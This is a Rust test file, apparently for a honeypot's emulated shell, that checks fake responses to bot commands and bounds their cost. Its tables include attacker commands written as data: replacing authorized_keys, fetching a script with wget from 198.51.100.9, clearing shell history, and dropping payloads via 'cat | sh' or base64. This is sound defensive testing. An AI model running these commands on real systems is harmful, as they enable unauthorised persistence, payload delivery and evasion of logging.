@@ -1,0 +1,223 @@
+//! What bots say, what is kept of it, and what it may cost.
+
+extern crate std;
+
+use super::*;
+use proptest::{collection::vec, prelude::*, sample::select};
+
+fn answer(lines: &[&str]) -> (String, String) {
+    run_all(&Persona::of([7; 32]).named("web-01").unwrap(), "root", lines, false)
+}
+
+#[test]
+fn what_bots_do_leaves_what_they_expect() {
+    let table: [(&str, &str); 22] = [
+        (
+            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA x\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~ && cat .ssh/authorized_keys",
+            "ssh-rsa AAAA x\n",
+        ),
+        ("mkdir /tmp/q; rm -rf /tmp/q; ls -d /tmp/q 2>&1", "ls: cannot access '/tmp/q': No such file or directory\n"),
+        ("mkdir -p /a/b/c && cd /a/b && pwd", "/a/b\n"),
+        ("mkdir /nosuch/x && echo created", ""),
+        (
+            "echo \"321\" > /var/tmp/.v; cat /var/tmp/.v | head -n 1; rm -rf /var/tmp/.v; cat /var/tmp/.v 2>/dev/null || echo gone",
+            "321\ngone\n",
+        ),
+        ("which ls useradd nosuch", "/usr/bin/ls\n/usr/sbin/useradd\n"),
+        ("echo $(uname -m) `whoami`", "x86_64 root\n"),
+        ("u=$(uname -s -m 2>/dev/null); c=$(nproc); echo \"UNAME:$u\"", "UNAME:Linux x86_64\n"),
+        ("sh -c \"uname -m\"; bash -c 'echo hi'; (uname -s || /bin/uname -s)", "x86_64\nhi\nLinux\n"),
+        (
+            "grep -c root /etc/passwd; head -1 /etc/passwd; cat /etc/passwd | awk -F: '{print $1}' | head -1; cut -d: -f7 /etc/passwd | head -1",
+            "1\nroot:x:0:0:root:/root:/bin/bash\nroot\n/bin/bash\n",
+        ),
+        ("cat /proc/cpuinfo | grep '^processor' | wc -l | tr -d ' ' | sed \"s/$(nproc)/same/\"", "same\n"),
+        ("[ -f /etc/passwd ] && echo T; if [ -d /tmp ]; then echo yes; fi", "T\nyes\n"),
+        ("for d in /tmp /var/run /nosuch; do [ -d $d ] && cd $d && pwd; done", "/tmp\n/var/run\n"),
+        ("printf '#!/bin/sh\\necho ran $1\\n' > /tmp/a; chmod +x /tmp/a; /tmp/a now; sh /tmp/a too", "ran now\nran too\n"),
+        ("echo x > /tmp/b; /tmp/b 2>&1", "bash: line 1: /tmp/b: Permission denied\n"),
+        ("cp /bin/echo /tmp/.s; head -c 4 /tmp/.s | tail -c 3; dd bs=52 count=1 if=/tmp/.s 2>/dev/null | wc -c", "ELF52\n"),
+        (
+            "echo a > /tmp/g1; echo b > /tmp/g2; ls /tmp/g*; cat /tmp/g? | sort -r; rm /tmp/g*; ls /tmp/g* 2>/dev/null | wc -l",
+            "/tmp/g1\n/tmp/g2\nb\na\n0\n",
+        ),
+        ("nohup sh /tmp/x >/dev/null 2>&1 &", ""),
+        ("while true; do echo a; done | head -1; export HISTFILE=/dev/null; unset HISTORY; history -c; echo ok", "a\nok\n"),
+        ("echo hello | tee /tmp/f; cat /tmp/f; echo more >> /tmp/f; wc -l < /tmp/f", "hello\nhello\n2\n"),
+        ("date +%s; date -u +%Y-%m-%d", "1796040000\n2026-11-30\n"),
+        ("busybox echo hi; /bin/busybox NOSUCH 2>&1; busybox cat /etc/hostname", "hi\nNOSUCH: applet not found\nweb-01\n"),
+    ];
+    for (line, expected) in table {
+        assert_eq!(answer(&[line]).0, expected, "{line}");
+    }
+    assert!(answer(&["/bin/busybox cat /proc/self/exe || cat /proc/self/exe"]).0.starts_with("\u{7f}ELF\u{2}\u{1}\u{1}"));
+    assert!(answer(&["ls -lh $(which ls)"]).0.starts_with("-rwxr-xr-x 1 root root 155K "));
+    assert!(answer(&["top -bn1"]).0.starts_with("top - 12:00:00 up "));
+    let (_, told) = answer(&["wget http://198.51.100.9/i.sh"]);
+    assert_eq!(
+        told,
+        "--2026-11-30 12:00:00--  http://198.51.100.9/i.sh\nConnecting to 198.51.100.9:80... failed: Network is unreachable.\n"
+    );
+}
+
+#[test]
+fn what_reads_the_channel_waits_for_it_wherever_it_stands() {
+    let persona = Persona::of([7; 32]);
+    let table = [
+        ("sh -c 'cat > /tmp/x'", Some(Reads::File)),
+        ("(cat > /tmp/b)", Some(Reads::File)),
+        ("{ cat; } > /tmp/b; /tmp/b", Some(Reads::File)),
+        ("cat | sh", Some(Reads::Commands)),
+        ("cat", Some(Reads::Echo)),
+        ("bash -s", Some(Reads::Commands)),
+        ("base64 -d > /tmp/f", Some(Reads::File)),
+        ("cat | base64 -d > /tmp/f", Some(Reads::File)),
+        ("tar xzf - -C /tmp", Some(Reads::File)),
+        ("gunzip > /tmp/x", Some(Reads::File)),
+        ("scp -qt /tmp/up4", Some(Reads::Copy)),
+        ("dd of=/tmp/x bs=1", Some(Reads::File)),
+        ("tee /tmp/x", Some(Reads::Echo)),
+        ("x=$(cat); echo $x", Some(Reads::File)),
+        ("while read x; do echo $x; done", Some(Reads::File)),
+        ("dd if=/dev/zero of=/tmp/y bs=1M count=1", None),
+        ("echo hello | tee f", None),
+        ("cat < /dev/null", None),
+        ("cat /etc/issue | cat", None),
+        ("cat &", None),
+        ("echo | sh", None),
+    ];
+    for (line, expected) in table {
+        let mut output = Output::default();
+        let _ = Shell::new(&persona, b"root", NOON, false).run(line.as_bytes(), &mut Place::default(), &mut output);
+        assert_eq!(output.reads, expected, "{line}");
+    }
+}
+
+#[test]
+fn a_line_that_is_not_whole_waits_for_the_next() {
+    let persona = Persona::of([7; 32]);
+    let shell = Shell::new(&persona, b"root", NOON, true);
+    let (mut place, mut output) = (Place::default(), Output::default());
+    for line in ["for i in 1 2", "do echo $i", "done; echo \"a", "b\"", "cat <<E", "x $((1+1))", "E", "exit 4"] {
+        let _ = shell.run_line(line.as_bytes(), &mut place, &mut output);
+        assert_eq!(shell.prompt(&place) == "> ", !["b\"", "E", "exit 4"].contains(&line), "{line}");
+    }
+    assert_eq!((said(&output.out).as_str(), output.status), ("1\n2\na\nb\nx 2\n", 4));
+    for _ in 0..2_000 {
+        let _ = shell.run_line(&b"(".repeat(100), &mut place, &mut output);
+        assert!(place.begun.len() <= BEGUN_BYTES_MAX);
+    }
+}
+
+/// The dearest lines that are known: what prints nothing, what goes round, what nests, what goes back.
+#[test]
+fn no_line_takes_longer_than_its_work() {
+    let persona = everything(Persona::of([7; 32]));
+    let listing = alloc::format!("ls -la{} 2>/dev/null|x 2>/dev/null;", " /".repeat(63)).repeat(200);
+    let lines = [
+        listing,
+        "ps aux|x 2>/dev/null;".repeat(1_000),
+        "cat /proc/cpuinfo /etc/passwd|grep -c a;".repeat(800),
+        "while true; do for i in 1 2 3 4 5 6 7 8 9; do cat /etc/passwd | sort; done; done".into(),
+        "x() { x; x; }; x; y=$(y=$(y=$(x)))".into(),
+        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a*)*(a*)*(a*)*b'".into(),
+        "x=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; x=$x$x$x$x$x$x$x$x; x=$x$x; for i in $x $x; do echo ${x//a/$x}; echo ${x%%*b*c*d}; done".repeat(20),
+        "ls -la /usr/bin /usr/sbin; ls /usr/bin/*;".repeat(100),
+        "yes | head -100000 | sort | uniq -c | awk '{for(i=0;i<9;i++)print}' | sed s/y/yyyyyyyyy/g".repeat(50),
+    ];
+    for line in lines {
+        let (mut place, mut output) = (Place::default(), Output::default());
+        let begun = std::time::Instant::now();
+        let shell = Shell::new(&persona, b"root", NOON, false);
+        let _ = shell.run(line.as_bytes(), &mut place, &mut output);
+        let took = begun.elapsed();
+        std::println!("{took:>10.1?} {:>5} steps left, {}", shell.steps_left(), &line[..line.len().min(60)]);
+        // Many times what it takes on a machine that does nothing else, where it is a millisecond or two.
+        assert!(took.as_millis() < 100, "{took:?}: {}", &line[..line.len().min(60)]);
+    }
+}
+
+const WORDS: [&str; 60] = [
+    "echo",
+    "cat",
+    "ls",
+    "-la",
+    "/",
+    "/etc/passwd",
+    "/tmp/x",
+    "|",
+    "||",
+    "&&",
+    ";",
+    "&",
+    "\n",
+    "(",
+    ")",
+    "{",
+    "}",
+    "if",
+    "then",
+    "else",
+    "fi",
+    "while",
+    "do",
+    "done",
+    "for",
+    "i",
+    "in",
+    "$i",
+    "$(",
+    "`",
+    "'",
+    "\"",
+    "\\",
+    "${x:-",
+    "$((",
+    "))",
+    "<<EOF",
+    "EOF",
+    "<",
+    ">",
+    ">>",
+    "2>&1",
+    "grep",
+    "-E",
+    "(a*)*",
+    "sed",
+    "s/a/b/g",
+    "awk",
+    "{print $1}",
+    "sh",
+    "-c",
+    "x=1",
+    "rm",
+    "-rf",
+    "~/.ssh",
+    "seq",
+    "99999",
+    "xargs",
+    "case",
+    "esac",
+];
+
+proptest! {
+    #[test]
+    fn whatever_is_said_is_answered_within_bounds(words in vec(select(WORDS.to_vec()), 0..60), glued in any::<u64>(), typed in any::<bool>()) {
+        let mut line = String::new();
+        for (at, word) in words.iter().enumerate() {
+            line += word;
+            if glued >> (at % 64) & 1 == 0 {
+                line += " ";
+            }
+        }
+        let persona = Persona::of([7; 32]);
+        let shell = Shell::new(&persona, b"root", NOON, typed);
+        let (mut place, mut output) = (Place::default(), Output::default());
+        let _ = if typed { shell.run_line(line.as_bytes(), &mut place, &mut output) } else { shell.run(line.as_bytes(), &mut place, &mut output) };
+        prop_assert!(output.out.len() <= OUTPUT_BYTES_MAX && output.err.len() <= OUTPUT_BYTES_MAX);
+        let again = Shell::new(&persona, b"root", NOON, typed);
+        let (mut other, mut second) = (Place::default(), Output::default());
+        let _ = if typed { again.run_line(line.as_bytes(), &mut other, &mut second) } else { again.run(line.as_bytes(), &mut other, &mut second) };
+        prop_assert_eq!((output.out, output.err, output.status), (second.out, second.err, second.status));
+    }
+}
